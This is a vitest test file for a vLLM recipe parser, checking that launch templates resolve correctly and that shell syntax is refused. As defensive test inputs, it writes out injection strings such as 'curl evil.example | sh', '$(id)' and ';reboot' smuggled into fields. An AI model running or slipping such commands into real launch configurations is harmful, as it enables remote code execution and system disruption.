import fs from 'node:fs'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import {
  readCommand,
  recipeToView,
  resolveTemplate,
  shellWords,
  type RecipeContext,
} from '../../../src-main/models/recipes'

const ROOTS = ['/home', '/data', '/mnt', '/srv', '/opt/models']
const CTX: RecipeContext = { localRoots: ROOTS, nodeCount: 2, peer: { host: '10.0.0.12', user: 'spark' } }
const SIM_RECIPES = path.resolve(__dirname, '../../sim/launcher/recipes')

const recipe = (command: string, extra: Record<string, unknown> = {}): string =>
  [
    'name: Test-Recipe',
    'description: a test recipe',
    'defaults:',
    '  port: 8000',
    '  host: 0.0.0.0',
    '  max_model_len: 32768',
    ...Object.entries(extra).map(([k, v]) => `${k}: ${JSON.stringify(v)}`),
    'command: |',
    ...command.split('\n').map((l) => `  ${l}`),
  ].join('\n')

describe('recipe templates and words', () => {
  it('fills {param} from defaults and keeps {{ }} as literal braces', () => {
    // A YAML int renders as an int, a float as Python renders it (0.90 → 0.9, 1.0 stays 1.0).
    expect(resolveTemplate('--x {a} \'{{"k":{b}}}\'', { a: 1n, b: 'v' })).toBe('--x 1 \'{"k":v}\'')
    expect(resolveTemplate('{a} {b}', { a: 0.9, b: 1 })).toBe('0.9 1.0')
    expect(() => resolveTemplate('--x {missing}', {})).toThrow(/missing/)
  })

  it('splits like a shell for the plain subset: continuations and quotes', () => {
    expect(shellWords('vllm serve a/b \\\n  --x \'{"a": 1}\' "two words"\n')).toEqual([
      'vllm',
      'serve',
      'a/b',
      '--x',
      '{"a": 1}',
      'two words',
    ])
  })

  for (const bad of ['a; b', 'a && b', 'a | b', 'a > f', '$(id)', '`id`', 'x$HOME', 'a*', '"$HOME"', 'a{b,c}', '# c']) {
    it(`refuses shell syntax: ${bad}`, () => expect(() => shellWords(`vllm serve ${bad}`)).toThrow())
  }
  for (const bad of ['a<b', '<think>', 'x>/tmp/f']) {
    it(`refuses an unquoted redirection: ${bad}`, () =>
      expect(() => shellWords(`vllm serve ${bad}`)).toThrow(/shell syntax/))
  }

  it('< and > inside quotes are plain characters, as to the shell', () => {
    const json = '{"reasoning_start_str":"<think>","reasoning_end_str":"</think>"}'
    expect(shellWords(`vllm serve a/b --reasoning-config '${json}' --x "<a|b>"`)).toEqual([
      'vllm',
      'serve',
      'a/b',
      '--reasoning-config',
      json,
      '--x',
      '<a|b>',
    ])
  })
})

describe('recipeToView', () => {
  it('the simulated launcher recipes all import, with launcher flags dropped', () => {
    const files = fs.readdirSync(SIM_RECIPES).filter((f) => f.endsWith('.yaml'))
    expect(files.length).toBeGreaterThanOrEqual(6)
    for (const f of files) {
      const v = recipeToView(f, fs.readFileSync(path.join(SIM_RECIPES, f), 'utf8'), CTX)
      expect(v.error, f).toBeNull()
      expect(v.model?.engine_args).not.toContain('--port')
      expect(v.model?.engine_args).not.toContain('--host')
      expect(v.model?.engine_args).not.toContain('--distributed-executor-backend')
    }
  })

  it('the simulated launcher has what the real one has: an own image, mods, <think> JSON, a 4-node recipe', () => {
    const views = fs
      .readdirSync(SIM_RECIPES)
      .filter((f) => f.endsWith('.yaml'))
      .map((f) => recipeToView(f, fs.readFileSync(path.join(SIM_RECIPES, f), 'utf8'), CTX))
    expect(views.some((v) => v.model?.container !== 'vllm-node' && (v.model?.build_args?.length ?? 0) > 0)).toBe(true)
    expect(views.some((v) => (v.model?.mods?.length ?? 0) > 0)).toBe(true)
    expect(views.some((v) => v.model?.engine_args.some((a) => a.includes('"<think>"')))).toBe(true)
    expect(views.find((v) => v.nodes_needed === 4)).toMatchObject({ name: 'glm-5-int4', runnable: false })
  })

  it('cluster-only keeps its tensor-parallel layout but not the executor backend; solo-capable ones drop tp 1', () => {
    const mm = recipeToView(
      'minimax-m2.5-awq.yaml',
      fs.readFileSync(path.join(SIM_RECIPES, 'minimax-m2.5-awq.yaml'), 'utf8'),
      CTX,
    )
    expect(mm).toMatchObject({ name: 'minimax-m2.5-awq', solo: false, cluster: true, error: null, runnable: true })
    expect(mm.model).toMatchObject({ key: 'minimax-m2.5-awq', repo: 'cyankiwi/MiniMax-M2.5-AWQ-4bit', mode: 'cluster' })
    expect(mm.model?.engine_args).toEqual(expect.arrayContaining(['-tp', '2']))
    expect(mm.model?.engine_args).not.toContain('ray')
    const glm = recipeToView(
      'glm-4.7-flash-awq.yaml',
      fs.readFileSync(path.join(SIM_RECIPES, 'glm-4.7-flash-awq.yaml'), 'utf8'),
      CTX,
    )
    expect(glm).toMatchObject({ solo: true, cluster: true })
    expect(glm.model?.mode).toBe('both')
    expect(glm.model?.engine_args).not.toContain('-tp')
    expect(glm.model?.engine_args.slice(0, 2)).toEqual(['--tool-call-parser', 'glm47'])
    expect(glm.model?.engine_args).toEqual(expect.arrayContaining(['--max-model-len', '202752']))
  })

  it('the speculative-config JSON comes through with its braces resolved', () => {
    const g = recipeToView(
      'gemma4-26b-a4b-nvfp4.yaml',
      fs.readFileSync(path.join(SIM_RECIPES, 'gemma4-26b-a4b-nvfp4.yaml'), 'utf8'),
      CTX,
    )
    const args = g.model?.engine_args ?? []
    expect(JSON.parse(args[args.indexOf('--speculative-config') + 1] as string)).toMatchObject({ method: 'mtp' })
    expect(g).toMatchObject({ solo: true, cluster: false })
  })

  const refused: [string, string, Record<string, unknown>?][] = [
    ['a command substitution', 'vllm serve acme/m --served-model-name $(id)'],
    ['a second command', 'vllm serve acme/m; curl evil.example | sh'],
    ['metacharacters in a default', 'vllm serve acme/m --max-model-len {max_model_len}'],
    ['a quoted metacharacter argument', "vllm serve acme/m --served-model-name 'x`id`'"],
    ['metacharacters in the model', "vllm serve 'acme/m;id'"],
    ['a local path outside the roots', 'vllm serve /etc/models/m'],
    ['not a vllm serve command', 'python -m vllm.entrypoints.openai.api_server --model acme/m'],
    ['an unknown template parameter', 'vllm serve acme/m --x {nope}'],
    ['metacharacters in the image', 'vllm serve acme/m', { container: 'vllm-node;reboot' }],
  ]
  for (const [what, command, extra] of refused) {
    it(`lists a recipe with ${what} as refused, with the reason and no model`, () => {
      let text = recipe(command, extra)
      if (what === 'metacharacters in a default')
        text = text.replace('max_model_len: 32768', 'max_model_len: "4096; reboot"')
      const v = recipeToView('bad-recipe.yaml', text, CTX)
      expect(v.model).toBeNull()
      expect(v.error).toEqual(expect.any(String))
      expect(v.name).toBe('bad-recipe')
      expect(v.error).not.toMatch(/not a recipe/)
    })
  }

  it('a file that is not a recipe is listed as refused', () => {
    expect(recipeToView('x.yaml', 'just: [text', CTX)).toMatchObject({
      model: null,
      error: expect.any(String),
      runnable: false,
      nodes_needed: null,
    })
    expect(recipeToView('y.yaml', 'name: no command', CTX).error).toMatch(/not a recipe/)
  })

  it('notes the mods the launcher applies and the environment the launch exports', () => {
    const v = recipeToView('n.yaml', recipe('vllm serve acme/m', { mods: ['mods/fix'], env: { A: '1' } }), CTX)
    expect(v.model?.mods).toEqual(['mods/fix'])
    expect(v.model?.description).toMatch(/--apply-mod: mods\/fix.*The launch exports its environment: A/)
    expect(v.model?.recipe).toMatchObject({ path: 'n.yaml', env: { A: '1' } })
  })

  it('counts nodes the way the launcher does: the last numeric -tp/-pp/-dp, also as --flag=N', () => {
    const nodes = (command: string, extra: Record<string, unknown> = {}) =>
      recipeToView('p.yaml', recipe(command, extra), CTX)
    // Either mode: solo on one node (the runner forces tensor parallel 1), or across the nodes it asks for.
    const either = nodes('vllm serve acme/m -tp 1 -tp 2 --data-parallel-size=2')
    expect(either).toMatchObject({ nodes_needed: 1, runnable: true, solo: true, cluster: true })
    expect(either.model?.description).toMatch(/across 4 nodes/)
    expect(nodes('vllm serve acme/m --tensor_parallel_size 2').model?.mode).toBe('both')
    expect(nodes('vllm serve acme/m -tp 4', { cluster_only: true })).toMatchObject({ nodes_needed: 4, runnable: false })
    expect(nodes('vllm serve acme/m -pp 2').model?.engine_args).toEqual(['-pp', '2'])
    // Cluster-only without a parallel flag still needs two nodes.
    expect(nodes('vllm serve acme/m', { cluster_only: true })).toMatchObject({ nodes_needed: 2, runnable: true })
    expect(nodes('vllm serve acme/m -tp 2', { solo_only: true }).reason).toMatch(
      /solo-only recipe whose command needs 2/,
    )
  })

  it('drops the per-node arguments launch-cluster.sh adds itself', () => {
    const v = recipeToView(
      'n.yaml',
      recipe('vllm serve acme/m --nnodes 2 --node-rank 0 --master-addr 10.0.0.1 --master-port 29501 --headless --x 1'),
      CTX,
    )
    expect(v.model?.engine_args).toEqual(['--x', '1'])
  })
})

describe('readCommand', () => {
  it('quotes the launcher directory: $HOME expands, an absolute path is single-quoted', () => {
    expect(readCommand('$HOME/spark-vllm-docker', '@@m')).toContain('d="$HOME/spark-vllm-docker"/recipes')
    expect(readCommand('/opt/launcher', '@@m')).toContain("d='/opt/launcher'/recipes")
    expect(() => readCommand('/opt/la uncher;x', '@@m')).toThrow()
  })
})
